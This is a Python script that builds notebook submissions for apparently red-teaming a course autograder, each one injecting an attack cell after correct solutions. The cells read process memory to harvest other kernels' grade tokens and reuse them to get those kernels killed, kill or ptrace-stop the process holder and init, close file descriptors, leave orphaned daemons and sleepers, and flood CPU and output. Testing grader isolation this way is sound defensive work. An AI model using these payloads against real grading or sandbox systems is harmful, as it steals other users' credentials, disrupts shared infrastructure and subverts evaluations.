"""Submissions for the S4 review (kernels forked from a zygote): lesson 1, every exercise
answered from solutions/, plus the attack cell after the first code cell.
python attacks/s4_build.py OUT_DIR"""
from __future__ import annotations

import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests" / "grading_corpus"))
import skipping_attacks as sa  # noqa: E402

# another kernel's token / folder / run folder in this kernel's memory (from the zygote);
# every one found is used as a token in a child's environment (the grader kills
# processes by token) and its folder looked for
MEMORY = r'''
import re, os, subprocess
mine = os.environ.get("NORMCOURSE_GRADE_TOKEN", "")
found = set()
mem = open("/proc/self/mem", "rb", 0)
for line in open("/proc/self/maps"):
    r = line.split()
    if "r" not in r[1] or (len(r) > 5 and r[5].startswith("[v")):
        continue
    lo, hi = (int(x, 16) for x in r[0].split("-"))
    try:
        mem.seek(lo); data = mem.read(hi - lo)
    except (OSError, ValueError, OverflowError):
        continue
    found |= set(re.findall(rb"GRADE_TOKEN\W{1,4}([0-9a-f]{32})", data))
    found |= set(re.findall(rb"(ncgrade-[a-z0-9_]{8})", data))
others = sorted(f.decode() for f in found if f.decode() != mine)
for o in others:
    if len(o) == 32:
        subprocess.Popen(["sleep", "1000"], env={"NORMCOURSE_GRADE_TOKEN": o}, start_new_session=True)
raise RuntimeError(f"OTHERS {others} {[os.path.exists('/tmp/' + o) for o in others]}")
'''

# kill its own holder (pid 2 when forked; itself when fresh), then the reaper pid 1
KILL_HOLDER = r'''
import os, signal
for pid in (1, 2):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError as e:
            print(pid, e)
'''

# stop everything it sees (SIGSTOP), ptrace-attach the holder and leave it stopped
STOP_ALL = r'''
import os, signal, ctypes
libc = ctypes.CDLL(None, use_errno=True)
for p in os.listdir("/proc"):
    if p.isdigit() and int(p) != os.getpid():
        libc.ptrace(16, int(p), 0, 0)  # PTRACE_ATTACH: stops it
        try:
            os.kill(int(p), signal.SIGSTOP)
        except OSError:
            pass
raise RuntimeError("stopped " + " ".join(sorted(p for p in os.listdir("/proc") if p.isdigit())))
'''

# close 0, 1, 2 (and stdout/stderr of Python)
CLOSE_FDS = r'''
import os
for fd in (0, 1, 2):
    os.close(fd)
'''

# leave processes: a double-forked daemon without the token (env -i), a plain fork that
# loops, 100 sleepers in new sessions, an orphaned shell loop writing to /dev/shm
LEAVE = r'''
import os, subprocess, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve("/bin/sh", ["sh", "-c", "while :; do sleep 1; done"], {})
    os._exit(0)
if os.fork() == 0:
    os.setsid()
    while True:
        time.sleep(0.5)
for _ in range(100):
    subprocess.Popen(["sleep", "100000"], start_new_session=True, env={})
subprocess.Popen(["sh", "-c", "while :; do date >> /dev/shm/d; sleep 0.2; done"],
                 start_new_session=True)
print("left")
'''

# flood: a CPU-bound child per core and 4,000 lines of output in a cell
FLOOD = r'''
import subprocess, sys
for _ in range(2):
    subprocess.Popen([sys.executable, "-c", "while True: pass"], start_new_session=True)
for i in range(4000):
    print("x" * 200, i)
'''


# stop its holder (forked: pid 2) and end: the grader must see the kernel die at once
STOP_HOLDER_EXIT = """import os, signal
if os.getpid() == 3:
    os.kill(2, signal.SIGSTOP)
os._exit(1)
"""

# signal every process it may: kill(-1) reaches its own PID namespace only
KILL_ALL = """import os, signal
os.kill(-1, signal.SIGSTOP)
os.kill(-1, signal.SIGKILL)
"""


def build() -> dict:
    sol = sa._solutions()
    return {
        "honest_a": sa.handout(sol),
        "memory_probe": sa.handout(sol, [MEMORY], after=0),
        "kill_holder": sa.handout(sol, [KILL_HOLDER], after=0),
        "stop_all": sa.handout(sol, [STOP_ALL], after=0),
        "close_fds": sa.handout(sol, [CLOSE_FDS], after=0),
        "leave_procs": sa.handout(sol, [LEAVE], after=0),
        "flood": sa.handout(sol, [FLOOD], after=0),
        "stop_holder_exit": sa.handout(sol, [STOP_HOLDER_EXIT], after=0),
        "kill_all": sa.handout(sol, [KILL_ALL], after=0),
        "honest_b": sa.handout(sol),
    }


if __name__ == "__main__":
    paths = sa.save(Path(sys.argv[1]), build())  # OUT/NAME/01_feature_scale.ipynb
    print("wrote", len(paths), "to", sys.argv[1])
